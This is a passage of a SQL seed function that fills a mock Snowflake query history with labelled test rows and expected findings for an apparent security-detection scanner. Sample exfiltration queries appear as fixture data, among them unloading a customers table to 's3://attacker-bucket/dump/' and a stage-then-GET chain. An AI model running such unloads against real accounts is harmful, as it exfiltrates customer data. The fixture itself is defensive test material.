		7004, 'ADMIN_ALICE', 'ACCOUNTADMIN', 'SUCCESS', p_now - 6 * interval '1 hour',
		p_now - 6 * interval '1 hour'),
	       ('q-netpol-failed', 'DROP NETWORK POLICY SVC_POLICY', 'DROP_NETWORK_POLICY', 7004,
		'ADMIN_ALICE', 'ACCOUNTADMIN', 'FAIL', p_now - 6 * interval '1 hour', p_now - 6 * interval '1 hour'),
	       ('q-scanner', 'SELECT query_id FROM SNOWFLAKE.ACCOUNT_USAGE.QUERY_HISTORY WHERE query_text LIKE ''%NETWORK POLICY%''',
		'SELECT', 7005, 'CLEAN_SVC', 'ETL', 'SUCCESS', p_now - 1 * d, p_now - 1 * d),
	       ('q-exfil-1', 'SHOW TABLES IN ACCOUNT', 'SHOW', 9001, 'EXFIL_EVE', 'ANALYST', 'SUCCESS',
		p_now - 1 * d, p_now - 1 * d),
	       ('q-exfil-2', 'CREATE TEMPORARY STAGE x_stage', 'CREATE', 9001, 'EXFIL_EVE', 'ANALYST', 'SUCCESS',
		p_now - 1 * d + interval '1 minute', p_now - 1 * d + interval '1 minute'),
	       ('q-exfil-3', 'COPY INTO @x_stage FROM PROD.SALES.CUSTOMERS', 'UNLOAD', 9001, 'EXFIL_EVE', 'ANALYST',
		'SUCCESS', p_now - 1 * d + interval '2 minutes', p_now - 1 * d + interval '2 minutes'),
	       ('q-exfil-4', 'GET @x_stage file:///tmp/', 'GET_FILES', 9001, 'EXFIL_EVE', 'ANALYST', 'SUCCESS',
		p_now - 1 * d + interval '3 minutes', p_now - 1 * d + interval '3 minutes'),
	       ('q-bi-1', 'SHOW TABLES IN SCHEMA PROD.SALES', 'SHOW', 9002, 'CLEAN_ANNA', 'ANALYST', 'SUCCESS',
		p_now - 1 * d, p_now - 1 * d),
	       ('q-bi-2', 'SHOW TABLES IN SCHEMA PROD.OPS', 'SHOW', 9002, 'CLEAN_ANNA', 'ANALYST', 'SUCCESS',
		p_now - 1 * d, p_now - 1 * d),
	       ('q-select', 'SELECT * FROM PROD.SALES.ORDERS', 'SELECT', 9002, 'CLEAN_ANNA', 'ANALYST', 'SUCCESS',
		p_now - 1 * d, p_now - 1 * d);
	-- SCIM tokens, shares and unloads to URLs, with near misses: a failed
	-- and an old token, a consumer database from a share, a grant to a
	-- share, a failed CREATE SHARE, an unload through a storage
	-- integration, a load from a URL, an unload to a named stage.
	INSERT INTO account_usage.query_history (query_id, query_text, query_type, session_id, user_name,
						 role_name, execution_status, start_time, end_time)
	SELECT q.id, q.txt, q.typ, q.sess, q.who, q.role, q.st, p_now - q.age, p_now - q.age
	FROM (VALUES
		('q-scim', 'SELECT SYSTEM$GENERATE_SCIM_ACCESS_TOKEN(''OKTA_PROVISIONING'')', 'SELECT', 9101,
		 'ADMIN_ALICE', 'ACCOUNTADMIN', 'SUCCESS', interval '2 hours'),
		('q-scim-failed', 'select system$generate_scim_access_token(''OKTA_PROVISIONING'')', 'SELECT', 9101,
		 'ADMIN_ALICE', 'ACCOUNTADMIN', 'FAIL', interval '3 hours'),
		('q-scim-old', 'SELECT SYSTEM$GENERATE_SCIM_ACCESS_TOKEN(''OKTA_PROVISIONING'')', 'SELECT', 9102,
		 'ADMIN_ALICE', 'ACCOUNTADMIN', 'SUCCESS', 9 * d),
		('q-share-create', 'CREATE SHARE sales_share', 'CREATE', 9103, 'ADMIN_ALICE', 'ACCOUNTADMIN',
		 'SUCCESS', 1 * d),
		('q-share-alter', '  alter share sales_share add accounts = partner.acct1', 'ALTER', 9103,
		 'ADMIN_ALICE', 'ACCOUNTADMIN', 'SUCCESS', 1 * d),
		('q-reader', 'CREATE MANAGED ACCOUNT reader1 ADMIN_NAME = reader_admin, TYPE = READER', 'CREATE',
		 9103, 'ADMIN_ALICE', 'ACCOUNTADMIN', 'SUCCESS', 1 * d),
		('q-share-failed', 'CREATE SHARE other_share', 'CREATE', 9103, 'ADMIN_ALICE', 'ACCOUNTADMIN', 'FAIL',
		 1 * d),
		('q-share-db', 'CREATE DATABASE partner_db FROM SHARE provider.sales_share', 'CREATE', 9104,
		 'ADMIN_ALICE', 'ACCOUNTADMIN', 'SUCCESS', 1 * d),
		('q-share-grant', 'GRANT USAGE ON DATABASE sales TO SHARE sales_share', 'GRANT', 9103, 'ADMIN_ALICE',
		 'ACCOUNTADMIN', 'SUCCESS', 1 * d),
		('q-shares-list', 'SHOW SHARES', 'SHOW', 9103, 'ADMIN_ALICE', 'ACCOUNTADMIN', 'SUCCESS', 1 * d),
		('q-unload-url', 'COPY INTO ''s3://attacker-bucket/dump/'' FROM PROD.SALES.CUSTOMERS CREDENTIALS = (AWS_KEY_ID = ''x'')',
		 'UNLOAD', 9105, 'EXFIL_EVE', 'ANALYST', 'SUCCESS', 1 * d),
		('q-unload-azure', E'copy into\n''azure://acct.blob.core.windows.net/c/'' from PROD.SALES.ORDERS',
		 'UNLOAD', 9105, 'EXFIL_EVE', 'ANALYST', 'SUCCESS', 1 * d),
		('q-unload-int', 'COPY INTO ''s3://corp-exports/daily/'' FROM PROD.SALES.ORDERS STORAGE_INTEGRATION = CORP_S3',
		 'UNLOAD', 9106, 'CLEAN_SVC', 'ETL', 'SUCCESS', 1 * d),
		('q-load-url', 'COPY INTO PROD.SALES.RAW FROM ''gcs://corp-landing/raw/''', 'COPY', 9106, 'CLEAN_SVC',
		 'ETL', 'SUCCESS', 1 * d),
		('q-unload-stage', 'COPY INTO @corp_stage/daily/ FROM PROD.SALES.ORDERS', 'UNLOAD', 9106, 'CLEAN_SVC',
		 'ETL', 'SUCCESS', 1 * d)
	) AS q(id, txt, typ, sess, who, role, st, age);

	INSERT INTO public.seed_security_truth (rule, subject)
	VALUES ('user-password-no-mfa', 'NOMFA_NICK'),
	       ('admin-no-mfa', 'ADMIN_NOMFA_DAVE'),
	       ('sso-user-has-password', 'SSO_SUE'),
	       ('stale-user', 'STALE_STAN'),
	       ('stale-user', 'NEVER_NORA'),
	       ('service-user-password', 'SVC_PWD'),
	       ('legacy-service-user', 'SVC_LEGACY'),
	       ('key-not-rotated', 'SVC_OLDKEY'),
	       ('admin-count', 'account'),
	       ('admin-no-email', 'DEEP_ADMIN_CAROL'),
	       ('admin-default-role', 'SECADMIN_BOB'),
	       ('admin-role-nested', 'ROLE_PLATFORM'),
	       ('admin-owned-task-proc', 'TASK PROD.OPS.NIGHTLY_PURGE'),
	       ('password-policy-weak', 'account'),
	       ('no-account-network-policy', 'account'),
	       ('network-policy-open', 'OPEN_POLICY'),
	       ('service-user-no-network-policy', 'SVC_NOPOLICY'),
	       ('data-protection-params', 'MIN_DATA_RETENTION_TIME_IN_DAYS'),
	       ('failed-login-burst-user', 'BURST_BILL'),
	       ('failed-login-burst-user', 'STUFFED_USER'),
	       ('failed-login-burst-ip', '198.51.100.77'),
	       ('failed-login-burst-ip', '203.0.113.50'),
	       ('login-after-failures', 'STUFFED_USER'),
	       ('ioc-ip-login', 'IOC_IVY'),
	       ('ioc-client-app', 'APP_VICTIM'),
	       ('password-login-no-mfa', 'PWLOGIN_PAT'),
	       ('admin-role-granted', 'ACCOUNTADMIN to ADMIN_ALICE'),
	       ('manage-grants-granted', 'ROLE_HELPDESK'),
	       ('network-policy-changed', 'q-netpol'),
	       ('security-integration-changed', 'q-secint'),
	       ('exfil-chain', '9001'),
	       ('mfa-bypass-active', 'BYPASS_BEA'),
	       ('grant-to-public', 'SELECT on TABLE PROD.SALES.CUSTOMERS'),
	       ('data-protection-params', 'PERIODIC_DATA_REKEYING'),
	       ('password-old', 'PWOLD_OLGA'),
	       ('password-old', 'ADMIN_NOMFA_DAVE'),
	       ('admin-idle-timeout', 'DEEP_ADMIN_CAROL'),
	       ('admin-idle-timeout', 'ADMIN_NOMFA_DAVE'),
	       ('keypair-user-password-login', 'KEY_KIM'),
	       ('sso-user-password-login', 'SSO_SUE'),
	       ('person-looks-like-service', 'DRIVER_DAN'),
	       ('rare-client-app', 'Go'),
	       ('scim-token-created', 'q-scim'),
	       ('share-changed', 'q-share-create'),
	       ('share-changed', 'q-share-alter'),
	       ('share-changed', 'q-reader'),
	       ('copy-into-external-url', 'q-unload-url'),
	       ('copy-into-external-url', 'q-unload-azure');
	SELECT count(*) INTO n FROM public.seed_security_truth;
	RETURN n;
END $$;
